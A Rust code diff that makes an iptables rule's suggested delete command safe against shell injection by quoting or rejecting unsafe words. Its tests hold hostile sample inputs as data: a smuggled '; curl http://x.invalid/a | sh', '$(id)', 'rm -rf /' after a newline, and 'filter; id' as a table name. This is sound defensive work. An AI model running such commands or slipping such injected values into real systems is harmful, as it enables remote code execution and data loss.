@@ -173,11 +173,90 @@ pub struct FirewallRule {
 }
 
 impl FirewallRule {
-    /// The command that deletes it (`iptables -t filter -D OUTPUT ...`); `None` for what
-    /// is not an appended rule (a chain's policy).
+    /// The command that deletes it (`iptables -t filter -D OUTPUT ...`), safe to paste
+    /// into a shell whatever the agent sent: the rule is split into iptables-save's words
+    /// and each word that is not plainly safe is single-quoted, so that `; curl … | sh` in
+    /// a rule is one argument iptables refuses, never a command. `None` for what is not an
+    /// appended rule (a chain's policy), a table iptables does not have, or a rule with
+    /// control characters or unbalanced quotes.
     pub fn delete_command(&self) -> Option<String> {
+        const TABLES: [&str; 5] = ["filter", "nat", "mangle", "raw", "security"];
         let rest = self.rule.strip_prefix("-A ")?;
-        Some(format!("iptables -t {} -D {rest}", self.table))
+        if !TABLES.contains(&self.table.as_str()) {
+            return None;
+        }
+        let words = iptables_words(rest)?;
+        let quoted: Vec<String> = words.iter().map(|w| shell_quote(w)).collect();
+        Some(format!(
+            "iptables -t {} -D {}",
+            self.table,
+            quoted.join(" ")
+        ))
+    }
+}
+
+/// An iptables-save rule's words: split at spaces, a double-quoted word (a comment) kept
+/// whole with `\"` inside it. `None` for control characters or an unbalanced quote.
+fn iptables_words(rule: &str) -> Option<Vec<String>> {
+    if rule
+        .chars()
+        .any(|c| c.is_control() || crate::text::is_invisible_format(c))
+    {
+        return None;
+    }
+    let mut words = Vec::new();
+    let mut chars = rule.chars().peekable();
+    loop {
+        while chars.peek() == Some(&' ') {
+            chars.next();
+        }
+        let Some(&first) = chars.peek() else {
+            return Some(words);
+        };
+        let mut word = String::new();
+        if first == '"' {
+            chars.next();
+            loop {
+                match chars.next()? {
+                    '\\' if chars.peek() == Some(&'"') => {
+                        chars.next();
+                        word.push('"');
+                    }
+                    '"' => break,
+                    c => word.push(c),
+                }
+            }
+        } else {
+            while let Some(&c) = chars.peek() {
+                if c == ' ' {
+                    break;
+                }
+                if c == '"' {
+                    return None;
+                }
+                word.push(c);
+                chars.next();
+            }
+        }
+        words.push(word);
+    }
+}
+
+/// Whether `w` is one shell word as it is: not empty, and only characters no shell
+/// treats specially (letters, digits, `-_./:=,+@%!`).
+pub fn is_plain_word(w: &str) -> bool {
+    !w.is_empty()
+        && w.chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_./:=,+@%!".contains(c))
+}
+
+/// `w` as one shell word: as it is when it [`is_plain_word`], else in single quotes (a
+/// quote inside as `'\''`).
+fn shell_quote(w: &str) -> String {
+    if is_plain_word(w) {
+        w.to_owned()
+    } else {
+        format!("'{}'", w.replace('\'', "'\\''"))
     }
 }
 
@@ -356,5 +435,52 @@ mod tests {
             Some("iptables -t filter -D OUTPUT -d 192.168.77.13/32 -j DROP".into())
         );
         assert_eq!(rule(":INPUT DROP (policy)").delete_command(), None);
+    }
+
+    /// Issue 22, row 8: a compromised node's rule text reached the finding's `next:`
+    /// command verbatim (`; curl … | sh`). Every word that is not plainly safe is quoted.
+    #[test]
+    fn a_delete_command_never_runs_what_the_rule_text_smuggles() {
+        let rule = |table: &str, r: &str| FirewallRule {
+            table: table.into(),
+            chain: "OUTPUT".into(),
+            rule: r.into(),
+        };
+        assert_eq!(
+            rule("filter", "-A OUTPUT -p udp -m comment --comment \"flannel \\\"vxlan\\\" rule\" -j DROP")
+                .delete_command(),
+            Some("iptables -t filter -D OUTPUT -p udp -m comment --comment 'flannel \"vxlan\" rule' -j DROP".into())
+        );
+        let smuggled = rule("filter", "-A OUTPUT -j DROP; curl http://x.invalid/a | sh")
+            .delete_command()
+            .expect("a command");
+        assert_eq!(
+            smuggled,
+            "iptables -t filter -D OUTPUT -j 'DROP;' curl http://x.invalid/a '|' sh"
+        );
+        let quote = rule(
+            "filter",
+            "-A OUTPUT -m comment --comment \"it's $(id)\" -j DROP",
+        )
+        .delete_command()
+        .expect("a command");
+        assert!(quote.contains("'it'\\''s $(id)'"), "{quote}");
+        // Control characters, unbalanced quotes and made-up tables give no command at all.
+        assert_eq!(
+            rule("filter", "-A OUTPUT -j DROP\nrm -rf /").delete_command(),
+            None
+        );
+        assert_eq!(
+            rule("filter", "-A OUTPUT -m comment --comment \"open").delete_command(),
+            None
+        );
+        assert_eq!(
+            rule("filter; id", "-A OUTPUT -j DROP").delete_command(),
+            None
+        );
+        assert_eq!(
+            rule("filter", "-A OUTPUT -j DROP\u{202E}").delete_command(),
+            None
+        );
     }
 }
